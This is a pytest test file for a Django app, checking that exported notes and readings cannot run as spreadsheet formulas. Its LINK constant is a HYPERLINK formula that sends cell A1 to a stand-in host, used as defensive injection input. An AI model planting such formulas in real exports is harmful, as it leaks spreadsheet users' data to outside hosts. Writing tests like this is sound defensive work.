"""S-39: a note that a spreadsheet would take for a formula."""

import csv
import io
import json
import zipfile

import pytest
import python_calamine
from django.test import Client
from django.utils.html import escape

from tests.certified import kept, open_floor
from tests.visit import Visit

PLACED = "2027-01-05T09:00:00+01:00"
SPAN = {"from": "2027-01-01T00:00:00Z", "to": "2027-02-01T00:00:00Z"}
LINK = '=HYPERLINK("http://example.invalid/?"&A1,"ok")'
COLD = "-2 °C shock"
TAB = "\tbehind a tab"
# Space around a note is nobody's word; it is left off where it is typed.
NOTES = (LINK, COLD, TAB.strip())


@pytest.fixture(scope="module")
def story(django_db_setup, django_db_blocker, tmp_path_factory):
    from django.conf import settings as own

    before, own.DATA = own.DATA, tmp_path_factory.mktemp("data")
    with kept(django_db_blocker):
        floor = open_floor(Client())
        batch = floor.place(20, "R1-01", "A-1", at=PLACED, note=LINK)
        walk = floor.walk
        for n, note in enumerate((COLD, TAB)):
            sign = {"signs": ["hides"], "affected": 1, "note": note}
            walk.post(f"batches/{batch}/signs", sign, key=f"sign {n}")
        cold = {"container": floor.uids["R1-02"], "quantity": "temperature"}
        cold |= {"value": "-2.0", "unit": "Cel"}
        walk.post("readings", {"readings": [cold]})
        yield floor, batch, bag(floor)
    own.DATA = before


def bag(floor):
    walk = floor.walk
    uid = walk.post(f"sites/{walk.site}/exports", SPAN)["export"]["uid"]
    walk.post("test-clock/sweeps", {"site": walk.site})
    answer = walk.send("GET", f"exports/{uid}/file")
    return zipfile.ZipFile(io.BytesIO(b"".join(answer.streaming_content)))


@pytest.fixture(autouse=True)
def _under_the_test_clock(story, db, settings):
    settings.TEST_CLOCK = True


@pytest.fixture
def floor(story):
    return story[0].again()


@pytest.fixture
def downloads(floor):
    """The tables for spreadsheets, by name."""
    query = f"from={SPAN['from']}&to={SPAN['to']}"
    answer = floor.walk.send("GET", f"sites/{floor.walk.site}/records?{query}")
    with zipfile.ZipFile(io.BytesIO(b"".join(answer.streaming_content))) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist()}


@pytest.fixture
def workbook(story):
    names = story[2].namelist()
    data = story[2].read(next(one for one in names if one.endswith("summary.xlsx")))
    return python_calamine.load_workbook(io.BytesIO(data)), zipfile.ZipFile(io.BytesIO(data))


def column(text, name):
    return [one[name] for one in csv.DictReader(io.StringIO(text, newline=""))]


def test_s39_1_no_cell_is_run_as_a_formula(downloads, workbook):
    book, parts = workbook
    rows = book.get_sheet_by_name("notes").to_python()
    sheets = b"".join(parts.read(one) for one in parts.namelist() if "worksheets" in one)

    assert column(downloads["notes.csv"], "text") == ["'" + LINK, "'" + COLD, NOTES[2]]
    assert [row[rows[0].index("text")] for row in rows[1:]] == list(NOTES)
    assert b"<f>" not in sheets
    assert "apostrophe" in downloads["README.txt"]


def test_s39_2_a_negative_number_stays_one(downloads, workbook):
    rows = workbook[0].get_sheet_by_name("readings").to_python()
    values = [row[rows[0].index("value")] for row in rows[1:]]

    assert column(downloads["readings.csv"], "value")[-1] == "-2.0"
    assert values[-1] == -2.0
    assert sum(values) == sum(map(float, column(downloads["readings.csv"], "value")))


def test_s39_3_database_evidence_and_pages_keep_what_was_typed(story, floor):
    names = story[2].namelist()
    texts = [
        json.loads(line)["text"]
        for name in names
        if name.endswith("texts.jsonl")
        for line in story[2].read(name).splitlines()
    ]
    exact = story[2].read(next(one for one in names if one.endswith("tables/notes.csv")))
    page = Visit.by(floor.walk.person, floor.walk.now).get("history", story[1]).content.decode()

    assert set(NOTES) <= set(texts)
    assert column(exact.decode(), "text") == list(NOTES)
    assert escape(LINK) in page
    assert LINK not in page


def test_s39_4_the_two_kinds_of_tables_are_told_apart_by_name(story, downloads):
    (read_me,) = [one for one in story[2].namelist() if one.endswith("README.txt")]

    assert "not for spreadsheets" in story[2].read(read_me).decode()
    assert "safe for spreadsheets" in downloads["README.txt"]
